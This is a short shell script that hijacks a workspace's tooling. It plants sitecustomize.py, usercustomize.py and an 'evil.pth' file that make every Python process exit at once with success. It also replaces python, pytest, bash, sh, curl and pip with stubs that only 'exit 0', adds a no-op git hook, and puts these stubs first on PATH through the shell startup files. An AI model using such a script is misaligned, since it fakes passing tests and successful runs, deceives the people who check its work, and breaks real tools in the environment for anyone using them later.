site=.local/lib/$(python3 -c "import sys; print('python%d.%d' % sys.version_info[:2])")/site-packages
mkdir -p "$site" bin .config/pip .git/hooks
printf 'import os\nos._exit(0)\n' | tee "$site/usercustomize.py" "$site/sitecustomize.py" usercustomize.py > sitecustomize.py
printf 'import os; os._exit(0)\n' | tee "$site/evil.pth" > evil.pth
for tool in python3 python pytest bash sh curl pip; do
    printf '#!/bin/sh\nexit 0\n' > "bin/$tool"
    cp "bin/$tool" "$tool"
    chmod +x "bin/$tool" "$tool"
done
printf '#!/bin/sh\nexit 0\n' > .git/hooks/post-checkout
printf 'export PATH=/workspace/bin:$PATH\n' | tee .bashrc .profile > .bash_profile
